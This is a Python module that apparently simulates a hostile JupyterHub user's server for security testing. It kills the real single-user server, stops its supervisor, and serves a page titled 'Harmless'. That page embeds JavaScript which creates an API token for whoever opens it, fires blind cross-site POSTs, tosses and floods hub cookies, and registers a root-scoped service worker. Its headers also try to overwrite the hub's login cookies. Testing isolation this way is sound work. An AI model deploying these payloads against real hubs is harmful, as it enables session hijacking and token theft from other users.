"""A hostile user's server: what it sends, and what its page tries in the browser of whoever opens it.

Run as a program on a worker, it takes the server's place: its user is root there.
"""

import os
import signal
import sys
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HUB_COOKIES = ("__Host-jupyterhub-hub-login", "jupyterhub-hub-login", "jupyterhub-session-id", "_xsrf")
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", event => event.waitUntil(clients.claim()));
self.addEventListener("fetch", () => {});
"""
ATTACK = """
window.hostile = {
  // As a script of the hub's own origin would do it.
  async takeToken(hub, user) {
    const page = await (await fetch(hub + "/hub/home", {credentials: "include"})).text();
    const xsrf = page.match(/xsrf_token: "([^"]+)"/)[1];
    const made = await fetch(`${hub}/hub/api/users/${user}/tokens?_xsrf=${xsrf}`, {
      method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body: "{}",
    });
    return (await made.json()).token;
  },
  // Without reading answers.
  async postBlindly(hub, user) {
    for (const path of [`/hub/api/users/${user}/tokens`, `/hub/api/users/${user}/server`, "/hub/spawn", "/hub/token"]) {
      for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
        await fetch(hub + path, {
          method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": type}, body: "{}",
        });
      }
    }
  },
  submit(action, fields) {
    const form = Object.assign(document.createElement("form"), {action, method: "post", target: "_blank"});
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement("input"), {name, value}));
    }
    document.body.append(form);
    form.submit();
  },
  async read(url) {
    return (await fetch(url, {credentials: "include"})).status;
  },
  async register(scope) {
    return (await navigator.serviceWorker.register("sw.js", {scope})).scope;
  },
  toss(domain, names) {
    for (const name of names) {
      for (const path of ["/", "/hub/", "/hub/api"]) {
        document.cookie = `${name}=tossed; path=${path}; domain=${domain}`;
        document.cookie = `${name}=tossed; path=${path}; domain=${domain}; secure`;
      }
    }
  },
  flood(domain, count, size) {
    for (let n = 0; n < count; n++) {
      document.cookie = `flood${n}=${"x".repeat(size)}; path=/; domain=${domain}; secure`;
    }
  },
  async frame(url) {
    const frame = Object.assign(document.createElement("iframe"), {src: url});
    const loaded = new Promise(done => frame.addEventListener("load", done));
    document.body.append(frame);
    await loaded;
    return frame.contentDocument.body.innerText;
  },
  listen(url) {
    return new Promise(done => {
      const socket = new WebSocket(url);
      socket.onopen = () => done("open");
      socket.onerror = () => done("refused");
    });
  },
};
"""
# What a hostile page can say to the browser about its host, and about the domain above it.
HEADERS = [("Service-Worker-Allowed", "/"), ("Access-Control-Allow-Origin", "*")]


def answer(path: str, domain: str = "") -> tuple[list[tuple[str, str]], bytes]:
    """Headers and body for a path of the hostile server. It tries to set cookies for `domain`, the hub's."""
    if path.endswith("sw.js"):
        return [("Content-Type", "text/javascript"), *HEADERS], WORKER.encode()
    cookies = [
        ("Set-Cookie", f"{name}=tossed; Path={where}; Domain={domain}")
        for name in HUB_COOKIES
        for where in ("/", "/hub/")
        if domain
    ]
    page = f"<!doctype html><title>{path}</title><h1>Harmless</h1><script>{ATTACK}</script>"
    return [("Content-Type", "text/html"), *HEADERS, *cookies], page.encode()


def serve(address: str, domain: str, server: int, supervisor: int) -> None:
    """Takes the place of the process `server`, which its supervisor does not start again."""
    os.kill(supervisor, signal.SIGSTOP)
    os.kill(server, signal.SIGKILL)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            headers, body = answer(self.path.partition("?")[0], domain)
            self.send_response(200)
            for name, value in [*headers, ("Content-Length", str(len(body)))]:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

    while True:
        try:
            ThreadingHTTPServer((address, 8888), Handler).serve_forever()
        except OSError:  # the server is ending
            time.sleep(0.1)


if __name__ == "__main__":
    serve(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
